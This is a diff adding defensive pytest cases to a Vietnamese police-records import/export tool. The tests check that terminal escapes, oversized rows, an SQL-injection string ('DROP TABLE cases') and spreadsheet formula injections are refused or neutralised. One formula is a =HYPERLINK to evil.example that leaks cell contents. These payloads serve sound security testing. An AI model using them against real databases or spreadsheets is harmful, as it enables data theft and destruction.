@@ -7,7 +7,7 @@ from pathlib import Path
 import pytest
 from sqlalchemy import Engine, func, select
 
-from models import KINDS, Actor, ChangeLogEntry, csvio, demo, records, report
+from models import KINDS, Actor, AwardRecipient, ChangeLogEntry, csvio, demo, records, report
 from models.db import open_database, read_session, write_session
 from models.errors import InvalidInput
 
@@ -211,3 +211,161 @@ def test_json_export_has_the_csv_columns(two_units: Engine) -> None:
     (campaign,) = json.loads(out.getvalue())
     assert list(campaign) == [name for name, _ in csvio.COLUMNS["campaigns"]]
     assert campaign["units"] == ["A", "B"] and campaign["starts_on"] == "2017-01-10"
+
+
+# --- hostile files ------------------------------------------------------------------------------
+
+BASE_ROWS = {
+    "units": "code=U9|name=Đội Cảnh sát hình sự|level=doi|parent_code=A|valid_from=2017-01-01",
+    "localities": "code=L9|name=Xã Xuân Thịnh|unit_code=A|border_zone=yes",
+    "tips": "code=T9|kind=to_giac|received_on=2017-05-01|receiving_unit=A|partner_unit=B|"
+    "locality=LA|summary=Tố giác trộm|status=received|case_code=V0|reporter_name=Lê Văn Báo|"
+    "reporter_contact=0905123456",
+    "cases": "code=V9|title=Trộm cắp|article=173|clause=1|occurred_on=2017-05-02|locality=LA|"
+    "lead_unit=A|coordinating_units=B|coordination=joint|status=investigating|campaign_code=CD1",
+    "suspects": "code=S9|full_name=Nguyễn Văn Tý|birth_year=1990|address=Xuân Hải|"
+    "case_codes=V0|status=wanted",
+    "campaigns": "code=C9|name=Cao điểm hè|starts_on=2017-06-01|ends_on=2017-06-30|units=A;B|"
+    "articles=173|localities=LA",
+    "awards": "decision_no=9/QĐ|decided_on=2017-12-28|issuer=UBND thị xã|form=giay_khen|"
+    "recipient_kind=individual|recipient_name=Lê Văn Tám|recipient_unit=A|rank=Đại úy|"
+    "position=Điều tra viên|achievement=Bắt đối tượng|campaign_code=CD1",
+}
+
+
+def csv_text(kind: str, row: dict[str, str]) -> str:
+    out = io.StringIO()
+    csvio.write_table([row], [name for name, _ in csvio.COLUMNS[kind]], out)
+    return out.getvalue()
+
+
+def base_row(kind: str) -> dict[str, str]:
+    return dict(cell.split("=", 1) for cell in BASE_ROWS[kind].split("|"))
+
+
+@pytest.fixture
+def with_case(two_units: Engine) -> Engine:
+    import_text(
+        two_units, "cases", HEADER + "\nV0,Vụ gốc,173,,01/02/2017,LA,A,,none,investigating,,,"
+    )
+    return two_units
+
+
+@pytest.fixture
+def sqlite_case(tmp_path: Path) -> Engine:
+    """The world of `with_case` on SQLite only: validation is the same on every backend."""
+    from .conftest import create
+
+    engine = open_database(f"sqlite:///{tmp_path / 'hostile.sqlite'}")
+    for code, name in (("A", "Công an thị xã Sông Cầu"), ("B", "Công an thành phố Qui Nhơn")):
+        create(engine, KINDS["units"], code=code, name=name)
+    create(engine, KINDS["localities"], code="LA", name="Xã Xuân Hải", unit_code="A")
+    create(
+        engine,
+        KINDS["campaigns"],
+        code="CD1",
+        name="Cao điểm",
+        starts_on="2017-01-10",
+        ends_on="2017-02-15",
+        units="A;B",
+    )
+    import_text(engine, "cases", HEADER + "\nV0,Vụ gốc,173,,01/02/2017,LA,A,,none,investigating,,,")
+    return engine
+
+
+@pytest.mark.parametrize("kind", list(csvio.COLUMNS))
+def test_no_column_of_any_kind_stores_a_terminal_escape(sqlite_case: Engine, kind: str) -> None:
+    before = counts(sqlite_case)
+    assert import_text(sqlite_case, kind, csv_text(kind, base_row(kind)), dry_run=True) == 1
+    for column, _ in csvio.COLUMNS[kind]:
+        for escape in ("\x1b[2J\x1b[31m", "\x9b31m", "\x07", "\x00", "\x7f"):
+            row = base_row(kind)
+            row[column] = (row.get(column) or "") + escape + "x"
+            refused = problems(sqlite_case, kind, csv_text(kind, row))
+            assert refused, (column, escape)
+            assert all(problem.startswith(f"row 2, column {column}: ") for problem in refused)
+            shown = "".join(refused)  # the value is quoted back printably: \x1b, never ESC
+            assert not any(ord(c) < 32 or 0x7F <= ord(c) <= 0x9F for c in shown)
+    assert counts(sqlite_case) == before
+
+
+def test_every_field_of_every_kind_has_a_length_limit() -> None:
+    from models.records import validate
+
+    for kind in KINDS.values():
+        for name in kind.create_model.model_fields:
+            for huge in ("x" * 100_000, ";".join(["x"] * 50_000)):
+                with pytest.raises(InvalidInput) as raised:
+                    validate(kind.create_model, {name: huge})
+                assert name in raised.value.by_field(), (kind.name, name, huge[:3])
+
+
+def test_an_oversized_row_is_refused_before_it_is_read(two_units: Engine) -> None:
+    text = HEADER + "\nV1," + "x" * (csvio.MAX_ROW_CHARACTERS + 1) + ",173,,01/02/2017,LA,A"
+    assert problems(two_units, "cases", text) == ["row 2, column -:  — dòng quá dài"]
+
+
+def test_sql_in_a_value_is_only_text(two_units: Engine) -> None:
+    hostile = "Công an'); DROP TABLE cases; --"
+    import_text(two_units, "units", f'code,name\nU7,"{hostile}"\n')
+    with read_session(two_units) as session:
+        assert records.get(session, KINDS["units"], "U7").name == hostile
+        assert session.scalar(select(func.count()).select_from(KINDS["cases"].table)) == 0
+
+
+FORMULAS = {
+    "title": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+    "clause": "-5",
+    "summary": "+84 905 123 456 gọi đến",
+    "address": "@Xuân Hải",
+    "achievement": "'=đã có dấu nháy",
+    "name": "''-hai dấu nháy",
+    "harmless": "'không phải công thức",
+}
+
+
+def test_formula_cells_are_neutralised_and_come_back_unchanged(
+    with_case: Engine, tmp_path: Path
+) -> None:
+    rows = {
+        "cases": {**base_row("cases"), "title": FORMULAS["title"], "clause": FORMULAS["clause"]},
+        "tips": {**base_row("tips"), "summary": FORMULAS["summary"]},
+        "suspects": {**base_row("suspects"), "address": FORMULAS["address"]},
+        "awards": {**base_row("awards"), "achievement": FORMULAS["achievement"]},
+        "campaigns": {**base_row("campaigns"), "name": FORMULAS["name"]},
+        "units": {**base_row("units"), "name": FORMULAS["harmless"]},
+    }
+    for kind in ("units", "campaigns", "cases", "tips", "suspects", "awards"):
+        import_text(with_case, kind, csv_text(kind, rows[kind]))
+    exported = {}
+    for kind in rows:
+        out = io.StringIO()
+        with read_session(with_case) as session:
+            csvio.write_csv(csvio.export_records(session, kind), kind, out)
+        exported[kind] = out.getvalue()
+    cells = [
+        cell for text in exported.values() for line in text.splitlines() for cell in line.split(",")
+    ]
+    assert not any(cell.lstrip('"')[:1] in ("=", "+", "-", "@") for cell in cells)
+    assert "'=HYPERLINK(" in exported["cases"] and ",'-5," in exported["cases"]
+    assert "'+84 905" in exported["tips"] and "'@Xuân Hải" in exported["suspects"]
+    assert "''=đã có dấu nháy" in exported["awards"] and "'''-hai" in exported["campaigns"]
+    assert ",'không phải công thức," in exported["units"]  # no formula: left alone
+    # Import reads back exactly what was stored.
+    target = open_database(f"sqlite:///{tmp_path / 'copy.sqlite'}")
+    for kind in csvio.IMPORT_ORDER:
+        with read_session(with_case) as session:
+            out = io.StringIO()
+            csvio.write_csv(csvio.export_records(session, kind), kind, out)
+        import_text(target, kind, out.getvalue())
+    with read_session(target) as session:
+        case = records.get(session, KINDS["cases"], "V9")
+        assert (case.title, case.clause) == (FORMULAS["title"], "-5")
+        assert records.get(session, KINDS["campaigns"], "C9").name == FORMULAS["name"]
+        assert records.get(session, KINDS["units"], "U9").name == FORMULAS["harmless"]
+        recipient = session.scalars(select(AwardRecipient)).one()
+        assert recipient.achievement == FORMULAS["achievement"]
+    json_out = io.StringIO()
+    with read_session(with_case) as session:
+        csvio.write_json(csvio.export_records(session, "cases"), json_out)
+    assert FORMULAS["title"].replace('"', '\\"') in json_out.getvalue()  # JSON is not a sheet
